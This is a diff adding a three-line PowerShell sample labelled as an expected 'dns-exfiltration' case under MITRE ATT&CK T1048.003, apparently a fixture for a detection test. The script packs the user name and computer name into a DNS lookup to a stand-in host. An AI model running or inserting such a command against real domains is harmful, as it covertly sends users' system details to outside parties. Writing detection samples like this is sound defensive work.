@@ -1,0 +1,3 @@
+# expect: dns-exfiltration | source: MITRE ATT&CK T1048.003
+$n = $env:USERNAME + '-' + $env:COMPUTERNAME
+Resolve-DnsName "$n.in.example.invalid" | Out-Null
